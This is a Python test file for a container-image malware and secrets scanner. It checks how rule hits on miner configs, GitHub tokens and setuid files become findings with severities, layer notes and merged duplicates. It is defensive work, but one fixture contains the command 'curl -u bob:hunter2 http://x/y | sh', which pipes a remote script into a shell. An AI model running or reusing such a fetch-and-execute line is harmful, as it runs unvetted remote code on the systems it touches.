"""From hits to findings: what counts, how bad, where else, and who vouches for it."""

import pytest
from msgspec.structs import replace

from nakami.engine.harm import Harm, files, harm, merged, merged_aside
from nakami.engine.setting_aside.reasons import PACKAGE_DIGEST
from nakami.model.finding import Finding, SetAside, Severity
from nakami.model.hit import INSTRUCTIONS, Hit, PlacedHit
from nakami.model.image import Base, ImageConfig, Layer, Target
from nakami.model.inventory import Inventory
from nakami.rulebook.rule import Rule

MINER = Rule(
    *("NK-M0001", "xmrig-config", "Configuration of the miner XMRig", Severity.HIGH, "high", "stable", "0.1"),
    *("it mines", "remove it", "malware", "miners"),
)
PACKED = replace(MINER, code="NK-M0500", name="packed", title="Packed", confidence="low", group="structure")
SURE_PACKED = replace(PACKED, code="NK-M0501", confidence="high")
UNSURE = replace(MINER, code="NK-M0002", confidence="medium")
TOKEN = replace(
    MINER, code="NK-S0001", name="token", title="Token of GitHub", severity=Severity.CRITICAL, family="secrets"
)
LOOSE = replace(TOKEN, code="NK-S0002", severity=Severity.HIGH, confidence="medium")
SETUID = replace(PACKED, code="NK-M0520")
RIGHTS = replace(PACKED, code="NK-M0521", tags=("rights",))
RULES = {rule.code: rule for rule in (MINER, PACKED, SURE_PACKED, UNSURE, TOKEN, LOOSE, SETUID, RIGHTS)}
LOOKS = frozenset({"malware", "secrets"})
DIGESTS = tuple(f"sha256:{digit * 64}" for digit in "0123456")
TARGET = Target(
    "oci",
    "x",
    config=ImageConfig(env=("PATH=/bin", "GITHUB_TOKEN=***")),
    layers=tuple(Layer(index, created_by=f"RUN   step {index}") for index in range(7)),
)


def judged(*hits: PlacedHit, looks: frozenset[str] = LOOKS, counted: frozenset[str] = frozenset()) -> Harm:
    return harm(Inventory(hits=hits, diff_ids=DIGESTS), TARGET, RULES, looks, Base("b", layers=2), counted)


def one(placed: PlacedHit) -> Finding:
    (finding,) = judged(placed).findings
    return finding


def test_a_finding_tells_where_who_and_what_to_do():
    finding = one(PlacedHit(Hit("opt/c.json", "NK-M0001", 3, 40, '"donate-level"'), 4))
    assert (finding.id, finding.kind, finding.title) == ("NK-M0001", "malware", "Configuration of the miner XMRig")
    assert (finding.severity, finding.confidence, finding.origin) == (Severity.HIGH, "high", "application")
    assert finding.remedy.text == "remove it"
    evidence = finding.evidence
    assert (evidence.path, evidence.layer, evidence.layer_digest) == ("opt/c.json", 4, DIGESTS[4])
    assert (evidence.advisory, evidence.line, evidence.excerpt) == ("xmrig-config", 3, '"donate-level"')
    assert evidence.instruction == "RUN step 4"


def test_what_shows_malware_shows_no_password():
    finding = one(PlacedHit(Hit("a.sh", "NK-M0001", 1, 0, "curl -u bob:hunter2 http://x/y | sh")))
    assert finding.evidence.excerpt == "curl -u bob:*** http://x/y | sh"
    assert one(PlacedHit(Hit("a", "NK-S0001", 1, 0, "X=ghp_… (40)"))).evidence.excerpt == "X=ghp_… (40)"


def test_a_folder_has_no_layers():
    finding = one(PlacedHit(Hit("opt/c.json", "NK-M0001")))
    assert (finding.evidence.layer, finding.evidence.layer_digest, finding.origin) == (None, "", "")


def test_deleted_malware_is_less_bad_and_a_deleted_secret_is_not():
    malware = one(PlacedHit(Hit("a", "NK-M0001"), 1, deleted_in=5))
    assert malware.severity is Severity.MEDIUM
    assert malware.note == "deleted in layer 6, the container does not have it, whoever pulls the image does"
    secret = one(PlacedHit(Hit("a", "NK-S0001"), 1, deleted_in=5))
    assert secret.severity is Severity.CRITICAL
    assert secret.note == "deleted in layer 6, still downloadable"
    assert secret.evidence.deleted_in == 5


def test_what_stands_in_the_configuration_names_its_statement():
    finding = one(PlacedHit(Hit(INSTRUCTIONS, "NK-S0001", 2, 20)))
    assert finding.note == "in environment variable GITHUB_TOKEN"
    assert one(PlacedHit(Hit(INSTRUCTIONS, "NK-S0001", 99, 20))).note == ""


@pytest.mark.parametrize(
    ("code", "counts"),
    [("NK-M0001", True), ("NK-M0002", False), ("NK-M0500", False), ("NK-M0501", False), ("NK-S0001", False)],
)
def test_a_package_vouches_for_all_but_what_a_rule_is_sure_of(code: str, counts: bool):
    placed = PlacedHit(Hit("usr/lib/x", code, vouched=True), 0, owner="libx")
    found = judged(placed)
    assert bool(found.findings) is counts
    if not counts:
        (aside,) = found.set_aside
        assert (aside.by, aside.why) == (PACKAGE_DIGEST, "the package libx records this content")
    assert len(judged(placed, counted=frozenset({PACKAGE_DIGEST})).findings) == 1
    assert len(judged(replace(placed, hit=replace(placed.hit, vouched=False))).findings) == 1


def test_a_packages_setuid_program_is_nothing_at_all():
    placed = PlacedHit(Hit("usr/bin/odd", "NK-M0520"), 0)
    assert len(judged(placed).findings) == 1
    assert judged(replace(placed, owner="odd")) == Harm()
    assert judged(PlacedHit(Hit("bin/su", "NK-M0520"), 0)) == Harm()


def test_no_digest_vouches_for_rights():
    placed = PlacedHit(Hit("usr/bin/bash", "NK-M0521", vouched=True), 0, owner="bash")
    assert len(judged(placed).findings) == 1


def test_only_what_is_looked_for():
    hits = (PlacedHit(Hit("a", "NK-M0001")), PlacedHit(Hit("b", "NK-S0001")))
    assert [finding.kind for finding in judged(*hits, looks=frozenset({"secrets"})).findings] == ["secret"]
    assert not judged(*hits, looks=frozenset()).findings


def test_a_rule_that_nobody_knows_is_a_blind_spot():
    found = judged(PlacedHit(Hit("a", "NK-M9999")), PlacedHit(Hit("b", "NK-M9999")), PlacedHit(Hit("c", "NK-M9998")))
    assert not found.findings
    assert [(spot.where, "1 more place" in spot.why) for spot in found.blind_spots] == [("a", True), ("c", False)]


class TestMerged:
    def test_malware_once_for_each_rule_and_path(self):
        hits = [PlacedHit(Hit(path, "NK-M0001", line), layer) for path, line, layer in (("a", 1, 0), ("a", 9, 0), ("b", 1, 0))]  # fmt: skip
        assert [finding.path for finding in merged(judged(*hits).findings)] == ["a", "b"]

    def test_what_the_container_still_has_stands_for_what_was_deleted(self):
        hits = (PlacedHit(Hit("a", "NK-M0001"), 0, deleted_in=1), PlacedHit(Hit("a", "NK-M0001"), 1))
        (finding,) = merged(judged(*hits).findings)
        assert (finding.evidence.layer, finding.severity, finding.note) == (1, Severity.HIGH, "")

    def test_a_secret_once_wherever_it_lies(self):
        hits = [PlacedHit(Hit(path, "NK-S0001", 1, fingerprint="0a"), 1) for path in "edcba"]
        hits[4] = replace(hits[4], deleted_in=3)
        (finding,) = merged(judged(*hits).findings)
        assert finding.path == "b"
        assert finding.note == "also in c (layer 2), d (layer 2), e (layer 2), and 1 more"

    def test_a_secret_that_several_rules_see_is_the_surest_one_s(self):
        hits = [
            PlacedHit(Hit("a", "NK-S0001", 1, fingerprint="0a"), 1),
            PlacedHit(Hit("0", "NK-S0002", 1, fingerprint="0a"), 2),
        ]
        hits.append(PlacedHit(Hit(INSTRUCTIONS, "NK-S0002", 2, fingerprint="0a")))
        (finding,) = merged(judged(*hits).findings)
        assert (finding.id, finding.aliases) == ("NK-S0001", ("NK-S0002",))
        assert finding.note == "also in 0 (layer 3), environment variable GITHUB_TOKEN"

    def test_different_secrets_stay_apart(self):
        hits = [PlacedHit(Hit("a", "NK-S0001", 1, fingerprint=each), 1) for each in ("0a", "0b")]
        hits += [PlacedHit(Hit("a", "NK-S0001", line), 1) for line in (3, 4)]
        assert len(merged(judged(*hits).findings)) == 4

    def test_the_gravest_comes_first(self):
        hits = [
            *(PlacedHit(Hit("z", "NK-S0001")), PlacedHit(Hit("a", "NK-M0500")), PlacedHit(Hit("b", "NK-M0001"))),
            PlacedHit(Hit("0", "NK-M0001"), 1, deleted_in=2),
        ]
        found = merged(judged(*hits).findings)
        assert [finding.path for finding in found] == ["b", "a", "0", "z"]

    def test_what_was_seen_in_one_file_stays_together(self):
        hits = [PlacedHit(Hit(*its)) for its in (("a", "NK-M0001"), ("b", "NK-M0001"), ("a", "NK-M0500"))]
        found = merged(judged(*hits).findings)
        assert [(finding.path, finding.id) for finding in found] == [
            *(("a", "NK-M0001"), ("a", "NK-M0500"), ("b", "NK-M0001")),
        ]


def test_several_rules_that_see_one_file_see_one_thing():
    seen = (
        ("a.jar!/x", "NK-M0500"),
        ("a.jar", "NK-M0001"),
        ("a.jar!/y", "NK-M0500"),
        ("b", "NK-M0500"),
        ("c", "NK-S0001"),
    )
    found = files(judged(*(PlacedHit(Hit(*its)) for its in seen)).findings)
    assert [(finding.path, finding.id) for finding in found] == [("a.jar", "NK-M0001"), ("b", "NK-M0500")]
    assert found[0].aliases == ("NK-M0500",)


def test_what_does_not_count_is_merged_for_each_reason():
    hits = [PlacedHit(Hit("a", code, 1, fingerprint="0a"), 1) for code in ("NK-S0001", "NK-S0002")]
    found = judged(*hits).findings
    other = SetAside(replace(found[0], id="CVE-2024-1", kind="vulnerability"), "vex", "no")
    aside = [SetAside(finding, "ignore-file", "a test") for finding in found]
    told = merged_aside([*aside, other, replace(aside[1], why="another")])
    assert [(each.finding.id, each.finding.aliases, each.why) for each in told] == [
        ("CVE-2024-1", (), "no"),
        ("NK-S0001", ("NK-S0002",), "a test"),
        ("NK-S0002", (), "another"),
    ]
